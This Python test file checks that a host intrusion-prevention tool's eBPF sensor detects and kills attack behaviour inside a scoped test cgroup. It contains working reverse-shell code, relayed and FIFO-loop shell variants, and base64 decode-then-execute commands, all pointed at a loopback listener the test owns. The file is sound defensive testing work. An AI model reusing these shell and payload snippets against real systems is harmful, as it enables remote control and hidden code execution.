"""Behaviour responses on the host kernel, in a scoped test cgroup.

* reverse shell: a process in the cgroup connects to a loopback listener the
  test owns, dup2s the socket onto its stdio and execs ``sh -i`` -> the live
  sensor + behaviour pack raise behavior.reverse_shell and the dispatcher
  kills it;
* quarantine (compat object): a quarantined test process is killed at its
  next exec; a child it forks afterwards is killed at its next write-open;
  an unmarked process in the same cgroup is untouched.
Every program is scoped to the test cgroup and carries a dead-man deadline.
"""

from __future__ import annotations

import os
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

from bastion.detect.behavior import behavior_rules
from bastion.detect.engine import Engine, RuleContext
from bastion.events import HipsEvent
from bastion.proctable import ProcessTable
from bastion.procstat import start_ns_of
from bastion.respond.dispatch import Dispatcher
from bastion.respond.quarantine import Quarantine
from bastion.sensors.bpf import BpfSensor
from support.cg import scoped_cgroup
from support.live import drain_findings


def spawn_in(cg: Path, argv: list[str], **kw: object) -> subprocess.Popen[bytes]:
    shell = f'echo $$ > {cg}/cgroup.procs && exec "$@"'
    return subprocess.Popen(["/bin/sh", "-c", shell, "sh", *argv], **kw)  # type: ignore[call-overload]


REVSHELL = ("import os, socket, sys\n"
            "s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))\n"
            "[os.dup2(s.fileno(), i) for i in range(3)]\n"
            "os.execv('/bin/sh', ['sh', '-i'])\n")


def test_reverse_shell_alert_and_kill() -> None:
    lst = socket.socket()
    lst.bind(("127.0.0.1", 0))
    lst.listen(1)
    port = lst.getsockname()[1]
    with scoped_cgroup() as (cg, cgid):
        sensor = BpfSensor(cgroup_id=cgid)
        sensor.open()
        proc = None
        conn = None
        try:
            procs = ProcessTable()
            engine = Engine(behavior_rules())
            ctx = RuleContext(procs)
            disp = Dispatcher(procs)
            proc = spawn_in(cg, [sys.executable, "-c", REVSHELL, str(port)])
            lst.settimeout(10)
            conn, _ = lst.accept()
            alerts = []
            deadline = time.monotonic() + 10
            while time.monotonic() < deadline and not alerts:
                for ev in sensor.poll(0.01) or []:
                    procs.update(ev)
                    ev = procs.enrich(ev)
                    for f in engine.evaluate(ev, ctx):
                        if f.rule == "behavior.reverse_shell":
                            alerts.append(disp.dispatch(f, time.time_ns()).to_json())
            assert alerts, "no reverse-shell finding"
            a = alerts[0]
            assert a["action"] == "kill" and a["process"]["pid"] == proc.pid
            assert a["severity"] == "critical" and "T1059.004" in a["attack"]
            assert proc.wait(5) == -signal.SIGKILL
            assert not engine.errors
        finally:
            if conn is not None:
                conn.close()
            lst.close()
            if proc is not None and proc.poll() is None:
                proc.kill()
                proc.wait()
            sensor.close()


def test_benign_loopback_client_is_not_killed() -> None:
    lst = socket.socket()
    lst.bind(("127.0.0.1", 0))
    lst.listen(1)
    port = lst.getsockname()[1]
    code = ("import socket, sys, subprocess\n"
            "s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))\n"
            "s.sendall(b'hi'); s.close()\n"
            "subprocess.run(['/bin/true'])\n")
    with scoped_cgroup() as (cg, cgid):
        sensor = BpfSensor(cgroup_id=cgid)
        sensor.open()
        try:
            procs = ProcessTable()
            engine = Engine(behavior_rules())
            ctx = RuleContext(procs)
            proc = spawn_in(cg, [sys.executable, "-c", code, str(port)])
            lst.settimeout(10)
            c, _ = lst.accept()
            c.close()
            assert proc.wait(10) == 0
            found = []
            for ev in sensor.poll(0.2) or []:
                procs.update(ev)
                found += [f for f in engine.evaluate(procs.enrich(ev), ctx)
                          if f.severity in ("high", "critical")]
            assert not found, [f.title for f in found]
        finally:
            lst.close()
            sensor.close()


WAITER = ("import os, sys\n"
          "sys.stdin.readline()\n"
          "if sys.argv[1] == 'exec':\n"
          "    os.execv('/bin/true', ['true'])\n"
          "pid = os.fork()\n"
          "if pid == 0:\n"
          "    open(sys.argv[2], 'w').write('x')\n"
          "    os._exit(0)\n"
          "_, st = os.waitpid(pid, 0)\n"
          "print(st, flush=True)\n"
          "os._exit(3)\n")


def test_quarantine_kills_at_next_exec_and_propagates(tmp_path: Path) -> None:
    with scoped_cgroup() as (cg, cgid):
        q = Quarantine(tier="compat", cgroup_id=cgid, deadline_s=30, self_tgid=os.getpid())
        q.open()
        procs: list[subprocess.Popen[bytes]] = []
        try:
            marked = spawn_in(cg, [sys.executable, "-c", WAITER, "exec"],
                              stdin=subprocess.PIPE, stdout=subprocess.PIPE)
            child = spawn_in(cg, [sys.executable, "-c", WAITER, "fork", str(tmp_path / "f")],
                             stdin=subprocess.PIPE, stdout=subprocess.PIPE)
            clean = spawn_in(cg, [sys.executable, "-c", WAITER, "exec"],
                             stdin=subprocess.PIPE, stdout=subprocess.PIPE)
            procs += [marked, child, clean]
            time.sleep(0.3)  # let the wrappers exec python
            for p in (marked, child):
                q.add(p.pid, start_ns_of(p.pid), incident=7)
            assert set(q.members()) >= {marked.pid, child.pid}
            for p in procs:
                assert p.stdin is not None
                p.stdin.write(b"go\n")
                p.stdin.flush()
            assert marked.wait(5) == -signal.SIGKILL          # killed at its exec
            assert clean.wait(5) == 0                         # ran /bin/true
            assert child.wait(5) == 3                         # the parent itself lives on ...
            assert child.stdout is not None
            st = int(child.stdout.read().split()[0])
            assert os.WIFSIGNALED(st) and os.WTERMSIG(st) == signal.SIGKILL  # ... its child died
            assert not (tmp_path / "f").exists() or (tmp_path / "f").read_text() == ""
            evs = [e for e in q.poll() if isinstance(e, HipsEvent)]
            assert {e.op for e in evs} >= {"exec", "open-write"}
            assert all(e.rule_id == 7 and e.action == "kill" for e in evs)
            f = Quarantine.finding(evs[0])
            assert f.rule == "bastion.quarantine.enforced" and f.enforced_by
            assert marked.pid not in q.members()              # exit removed the mark
        finally:
            for p in procs:
                if p.poll() is None:
                    p.kill()
                    p.wait()
            q.close()


def test_quarantine_outside_scope_is_ignored() -> None:
    """A mark on a process outside the test cgroup is never enforced."""
    with scoped_cgroup() as (cg, cgid):
        q = Quarantine(tier="compat", cgroup_id=cgid, deadline_s=30, self_tgid=os.getpid())
        q.open()
        p = subprocess.Popen([sys.executable, "-c", WAITER, "exec"], stdin=subprocess.PIPE)
        try:
            q.add(p.pid, start_ns_of(p.pid), incident=1)
            assert p.stdin is not None
            p.stdin.write(b"go\n")
            p.stdin.flush()
            assert p.wait(5) == 0
        finally:
            if p.poll() is None:
                p.kill()
                p.wait()
            q.close()


def test_dispatcher_kill_tree(tmp_path: Path) -> None:
    code = ("import os, time\n"
            "for _ in range(3):\n"
            "    if os.fork() == 0:\n"
            "        os.fork(); time.sleep(60); os._exit(0)\n"
            "time.sleep(60)\n")
    with scoped_cgroup() as (cg, _):
        p = spawn_in(cg, [sys.executable, "-c", code])
        try:
            time.sleep(0.5)
            members = {int(x) for x in (cg / "cgroup.procs").read_text().split()}
            assert len(members) == 7
            from bastion.detect.engine import Finding
            f = Finding(rule="t", title="t", severity="high", attack=(), action="kill-tree",
                        event=None, pid=p.pid)
            alert = Dispatcher(ProcessTable()).dispatch(f, time.time_ns()).to_json()
            assert alert["action"] == "kill-tree" and set(alert["killed"]) == members
            deadline = time.monotonic() + 5
            while time.monotonic() < deadline and (cg / "cgroup.procs").read_text().split():
                time.sleep(0.05)
            assert not (cg / "cgroup.procs").read_text().split()
        finally:
            if p.poll() is None:
                p.kill()
            p.wait()


def test_kill_tree_never_signals_a_pid_reused_since_the_table_saw_it() -> None:
    """The process table remembers a child of the tree that has since exited; its pid now
    belongs to an unrelated process.  Kill-tree re-checks each member's start time after
    pinning it with a pidfd: the unrelated process lives."""
    from bastion.detect.engine import Finding
    from bastion.proctable import ProcEntry

    root = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    bystander = subprocess.Popen(["/bin/sleep", "60"])       # not of the tree
    try:
        time.sleep(0.3)
        procs = ProcessTable()
        # a stale entry: "child of root", with the start time of the process that had the pid
        procs._put(ProcEntry(bystander.pid, root.pid, 12_345, "/tmp/gone", ("gone",), 0, "gone"))  # noqa: SLF001
        f = Finding(rule="t", title="t", severity="high", attack=(), action="kill-tree",
                    event=None, pid=root.pid)
        disp = Dispatcher(procs)
        alert = disp.dispatch(f, time.time_ns()).to_json()
        assert alert["killed"] == [root.pid]
        assert root.wait(5) == -9
        time.sleep(0.2)
        assert bystander.poll() is None, "an unrelated process was killed"
        assert disp.skipped_reused == 1
    finally:
        for p in (root, bystander):
            if p.poll() is None:
                p.kill()
            p.wait()


def test_decoded_file_run_and_padded_program_are_seen_live(tmp_path: Path) -> None:
    """On the live sensor (s13-det3): a shell's ``base64 -d > file`` then ``sh file``
    raises behavior.decoded_file_exec (high: the redirect's write-open, then the exec of
    a decoder whose stdout is a regular file); a copied program appended a byte from a
    shell's ``>>`` raises behavior.binary_padding; the program replaced by cp (truncating)
    does not.  Nothing is killed: both rules alert."""
    from bastion.detect.behavior import live_probes
    work = tmp_path / "w"
    work.mkdir()
    script = (f"cd {work}\n"
              "printf 'ZWNobyBkZWNvZGVk' | base64 -d > ./payload\n"   # "echo decoded"
              "sh ./payload\n"
              "cp /bin/true ./prog && ./prog && cp /bin/true ./prog && ./prog\n"
              "printf 'X' >> ./prog && ./prog\n")
    with scoped_cgroup() as (cg, cgid):
        sensor = BpfSensor(cgroup_id=cgid)
        sensor.open()
        try:
            procs = ProcessTable()
            engine = Engine(behavior_rules(probes=live_probes()))
            ctx = RuleContext(procs)
            proc = spawn_in(cg, ["/bin/sh", "-c", script], stdout=subprocess.DEVNULL)
            assert proc.wait(20) == 0
            found = drain_findings(sensor, procs, engine, ctx, proc)
            decoded = [f for f in found if f.rule == "behavior.decoded_file_exec"]
            padded = [f for f in found if f.rule == "behavior.binary_padding"]
            assert [(f.severity, f.evidence["path"]) for f in decoded] == \
                [("high", f"{work}/payload")], [f.title for f in found]
            assert [f.evidence["path"] for f in padded] == [f"{work}/prog"], \
                [f.title for f in found]
            assert not engine.errors
        finally:
            sensor.close()


# s14-det: a reverse shell whose socket is never the shell's stdio: the connecting
# process relays the shell's pipes (node/python ``spawn('/bin/sh')``), or the shell's
# output pipe feeds a network client in a FIFO loop (``sh -i < f | client > f``)
RELAY = ("import socket, subprocess, sys\n"
         "s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))\n"
         "p = subprocess.Popen(['/bin/sh'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)\n"
         "print(p.wait(), flush=True)\n")
CLIENT = ("import socket, sys, time\n"
          "s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))\n"
          "time.sleep(8)\n")


def test_relayed_shell_is_killed_live(tmp_path: Path) -> None:
    """Both relays raise behavior.relayed_shell from the live sensor (the kernel's fd 0/1
    pipe inodes at exec) and the shell, not the relay, is killed."""
    lst = socket.socket()
    lst.bind(("127.0.0.1", 0))
    lst.listen(2)
    port = lst.getsockname()[1]
    fifo = tmp_path / "f"
    os.mkfifo(fifo)
    loop = f'/bin/sh -i < {fifo} 2>&1 | {sys.executable} -c "$0" {port} > {fifo}'
    with scoped_cgroup() as (cg, cgid):
        sensor = BpfSensor(cgroup_id=cgid)
        sensor.open()
        procs_: list[subprocess.Popen[bytes]] = []
        conns: list[socket.socket] = []
        try:
            procs = ProcessTable()
            engine = Engine(behavior_rules())
            ctx = RuleContext(procs)
            disp = Dispatcher(procs)
            relay = spawn_in(cg, [sys.executable, "-c", RELAY, str(port)], stdout=subprocess.PIPE)
            procs_.append(relay)
            lst.settimeout(10)
            conns.append(lst.accept()[0])
            procs_.append(spawn_in(cg, ["/bin/sh", "-c", loop, CLIENT]))
            conns.append(lst.accept()[0])
            got: list[dict[str, object]] = []
            deadline = time.monotonic() + 10
            while time.monotonic() < deadline and len(got) < 2:
                for ev in sensor.poll(0.01) or []:
                    procs.update(ev)
                    ev = procs.enrich(ev)
                    for f in engine.evaluate(ev, ctx):
                        if f.rule == "behavior.relayed_shell":
                            got.append(disp.dispatch(f, time.time_ns()).to_json())
            assert len(got) == 2, got
            assert all(a["action"] == "kill" and a["severity"] == "critical" for a in got)
            assert relay.stdout is not None
            assert relay.stdout.readline().strip() == str(-signal.SIGKILL).encode()
            assert relay.wait(5) == 0            # the relay itself was left alone
            assert not engine.errors
        finally:
            for c in conns:
                c.close()
            lst.close()
            # the loop's client and shell are the test cgroup's processes: end them all
            for pid in (cg / "cgroup.procs").read_text().split():
                try:
                    os.kill(int(pid), signal.SIGKILL)
                except ProcessLookupError:
                    pass
            for p in procs_:
                if p.poll() is None:
                    p.kill()
                p.wait()
            sensor.close()


def test_decoded_embedded_data_is_seen_live(tmp_path: Path) -> None:
    """s16-decode on the live sensor: a script carrying its payload encoded — a python
    one-liner decoding base64 (behavior.inline_decode), ``echo X | base64 -d`` and a
    here-document into ``base64 -d`` (behavior.script_decode: the pipe has no exec'd
    writer, the script's shell wrote it), ``echo id | /bin/sh`` (behavior.generated_shell)
    — one medium finding each; the look-alikes beside them (``ls | sed | sh``, a program's
    output decoded, a one-liner parsing JSON) raise none of the three rules."""
    from bastion.detect.behavior import live_probes
    work = tmp_path / "w"
    work.mkdir()
    script = (f"cd {work}\n"
              f"{sys.executable} -c 'import base64,sys; "
              "sys.stdout.write(base64.b64decode(sys.argv[1]).decode())' aWQK > one\n"
              "echo aWQK | base64 -d > two\n"
              "base64 -d > three <<EOF\naWQK\nEOF\n"
              "echo id | /bin/sh > four\n"
              # look-alikes: sed writes the commands; base64 (a program) feeds the decoder;
              # a one-liner that decodes nothing
              "ls / | sed 's/.*/test -e \\/&/' | sh\n"
              "printf id | base64 | base64 -d > five\n"
              f"echo '{{\"a\": 1}}' | {sys.executable} -c 'import json,sys; json.load(sys.stdin)'\n")
    new = ("behavior.inline_decode", "behavior.script_decode", "behavior.generated_shell")
    with scoped_cgroup() as (cg, cgid):
        sensor = BpfSensor(cgroup_id=cgid)
        sensor.open()
        try:
            procs = ProcessTable()
            engine = Engine(behavior_rules(probes=live_probes()))
            ctx = RuleContext(procs)
            proc = spawn_in(cg, ["/bin/sh", "-c", script], stdin=subprocess.DEVNULL,
                            stdout=subprocess.DEVNULL)
            assert proc.wait(20) == 0
            found = drain_findings(sensor, procs, engine, ctx, proc)
            got = sorted((f.rule, f.severity, " ".join(f.evidence.get("argv", []))[:24])
                         for f in found if f.rule in new)
            assert got == [("behavior.generated_shell", "medium", "/bin/sh"),
                           ("behavior.inline_decode", "medium", f"{sys.executable} -c"[:24]),
                           ("behavior.script_decode", "medium", "base64 -d"),
                           ("behavior.script_decode", "medium", "base64 -d")], \
                [f.title for f in found]
            assert (work / "four").read_text().startswith("uid=")
            assert not engine.errors
        finally:
            sensor.close()
